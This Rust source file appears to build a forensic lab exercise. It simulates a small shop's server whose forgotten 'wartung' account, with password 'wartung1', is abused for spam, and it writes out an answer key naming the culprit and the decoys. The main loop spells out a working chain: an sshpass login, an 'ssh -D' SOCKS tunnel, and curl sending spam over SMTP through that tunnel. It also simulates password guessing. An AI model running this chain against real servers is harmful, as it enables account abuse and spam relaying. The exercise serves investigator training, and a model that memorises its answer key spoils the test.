//! A login account with a weak password: strangers log in over SSH, run nothing, and have sshd carry their connections to
//! exchangers' port 25. What the host shows is sshd's child of that account, and logins.

use super::Plan;
use super::ordinary::PAGES;
use super::scene::{Scene, Server};
use crate::capture;
use crate::evidence::{Expect, Folder};
use crate::notice::{self, Told};
use crate::syslog::Stamps;
use crate::web::Site;
use anyhow::{Context, Result};

const ROOT: &str = "/var/www/radverleih";
const NAME: &str = "www.radverleih-see.example";
const HELO: &str = "WIN-C4T0LK7PQ2D";
const SERVER: Server = Server {
    name: "seerad",
    domain: "radverleih-see.example",
    hostname: "mx.radverleih-see.example",
    clock: "Europe/Vienna",
    stamps: Some(Stamps::Bsd),
    people: &[("vroni", "Speiche+Nabe8"), ("alois", "Berg.auf.3")],
    boxes: &[("werkstatt", "Kette9Kette")],
    settings: "",
    sites: &[(Site { name: NAME, root: ROOT, user: "", log: "access.log" }, PAGES)],
    php: "",
    packets: None,
};

pub(super) fn record(plan: &Plan<'_>) -> Result<()> {
    let mut scene = Scene::server(plan, &SERVER)?;
    scene.ordinary_site(NAME, ROOT, "2025-05-02 07:41:55")?;
    scene.figures("/usr/local/bin/verleihzahlen", 5, "www-data")?;
    scene.reachability_check("/usr/local/sbin/mx-da", 4)?;
    // Three people may log in; one account was made for a supplier's technician and never closed.
    scene.logins(&[
        ("alois", "Berg.auf.3"),
        ("wartung", "wartung1"),
        ("lena", "Tandem-2-sitzer"),
    ])?;
    scene.socket_snapshots(2)?;
    let wire = capture::pcap(&scene.server, "eth0", "tcp port 25", "port25.pcap")?;

    scene.everyday();
    let length = scene.length;
    // Guessers never get in.
    for at in scene.chance.arrivals(1.5, 3.0, length - 8.0) {
        let from = scene.chance.pick(&scene.far.scanners);
        let user =
            scene.chance.pick(&["root", "admin", "wartung", "ubuntu", "test", "alois", "git"]);
        let password = scene.chance.word("abcdefgh123", 7);
        scene.login(at, "guess", from, user, &password, "", "true");
    }
    // The owner works on the server: looks, mails the figures from the shell, has a tunnel to the database.
    let home = scene.people.get(1).map_or("", |person| person.from_ip);
    for at in scene.chance.scatter(4, 20.0, length - 60.0) {
        let to = scene.chance.pick(&scene.far.contacts);
        let does = format!(
            "uptime; tail -n 3 /var/log/mail.log; printf 'From: alois@radverleih-see.example\\nTo: {to}\\nSubject: Zahlen\\n\\nwie besprochen\\n' | /usr/sbin/sendmail -t -i; sleep 15"
        );
        scene.login(
            at,
            "admin",
            home,
            "alois",
            "Berg.auf.3",
            "-L 127.0.9.1:5432:127.0.0.1:5432",
            &does,
        );
    }
    let office = scene.far.homes.get(4).copied().unwrap_or_default();
    for at in scene.chance.scatter(3, 30.0, length - 60.0) {
        let does = "ls -la /var/www; sleep 20";
        scene.login(at, "lena", office, "lena", "Tandem-2-sitzer", "", does);
    }
    // The strangers: a login without a command, some seconds later the first connections through it.
    let count = ((length / 60.0 * 0.6) as usize).max(2);
    for (number, at) in
        scene.chance.scatter(count, length * 0.34, length * 0.74).into_iter().enumerate()
    {
        let from = scene.chance.pick(&scene.far.strangers);
        let port = 20_100 + number;
        let mut script = format!(
            "sshpass -p wartung1 ssh -q -N -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -b {from} -D 127.0.0.1:{port} wartung@{} & t=$!; sleep 5\n",
            scene.address
        );
        for _ in 0..4 + scene.chance.below(5) {
            let victim = scene.far.victim(&mut scene.chance);
            let domain = victim.rsplit('@').next().unwrap_or_default().to_owned();
            let Some(exchanger) = scene.far.exchanger_of(&domain) else { continue };
            let sender = format!(
                "{}@{}",
                scene.chance.word("abcdefghiklm", 7),
                scene.chance.pick(&scene.far.domains)
            );
            let (word, pause) = (scene.chance.word("abcdefghkmnp", 7), 2 + scene.chance.below(9));
            script.push_str(&format!(
                "printf 'From: <{sender}>\\nTo: <{victim}>\\nSubject: Last call for your prize\\nDate: {{DATE}}\\n\\nhttp://{word}.offers.example/\\n' | \
                 curl -sS -m 60 -x socks5h://127.0.0.1:{port} --url smtp://{exchanger}:25/{HELO} --mail-from {sender} --mail-rcpt {victim} -T - ; sleep {pause}\n"
            ));
        }
        script.push_str("kill $(pgrep -P $t) $t; wait $t");
        let crowd = scene.far.crowd.clone();
        scene.line.sh(at, &crowd, "bad", &script);
    }

    let played = scene.play()?;
    capture::end(&scene.server, &wire)?;
    let (first, _) = played.span("bad").context("nothing bad happened")?;
    let seen = scene.far.stored("offers.example")?.map_or(first, |mail| mail.arrived);

    let mut folder = Folder::create(plan.out)?;
    let told = Told { address: scene.address, seen, tolerance: 15, helo: HELO };
    folder.notice("page.txt", &notice::checker(told))?;
    scene.usual(&mut folder, &[])?;
    scene.take_snapshots(&mut folder)?;
    folder.take(&scene.server, &wire.path, "captures/port25.pcap")?;
    folder.ask(&scene.server, "getent passwd alois lena wartung www-data", "host/passwd.txt")?;
    let mut decoys = scene.accounts();
    decoys.extend(Scene::ordinary_decoys(ROOT));
    decoys.extend(["account:lena", "account:root", "account:admin"].map(String::from));
    decoys.extend(
        ["process:/usr/local/bin/verleihzahlen", "process:/usr/local/sbin/mx-da"].map(String::from),
    );
    folder.finish(
        &Expect {
            class: "shell-account",
            culprit: "wartung",
            must_not_accuse: decoys,
            origin: "recorded by the lab; SSH forwarding with a guessed password, as hosters describe it",
            ..Expect::default()
        },
        "The technician's login",
        STORY,
    )
}

const STORY: &str = "A bicycle shop's server near Vienna with site and mail, and OpenSSH for three people. The account `wartung`, made for a supplier's technician, has the password `wartung1`. \
Strangers log in with it from several addresses, run no command, and use dynamic forwarding (`ssh -D`): their connections to exchangers leave from sshd's child of that account. They say a Windows-like name as HELO, \
which Spamhaus's page quotes. No line of it is in the mail log.

Noise: letters both ways, greylisting, an exchanger that is down, visits, scanners, guessers of SASL and of SSH passwords (also for `wartung`, with wrong ones), monitoring of port 25. \
Decoys: `alois` logs in from home, mails from the shell and forwards a database port; `lena` logs in from elsewhere; a contact form and a cron report mail as www-data; a cron script greets an exchanger without a log line. \
Socket tables were taken by cron twice a minute (`host/sockets/`, named by local time).

By hand: what the strangers say (curl speaks SMTP for them), the site's code, `page.txt`, `site.toml`.";
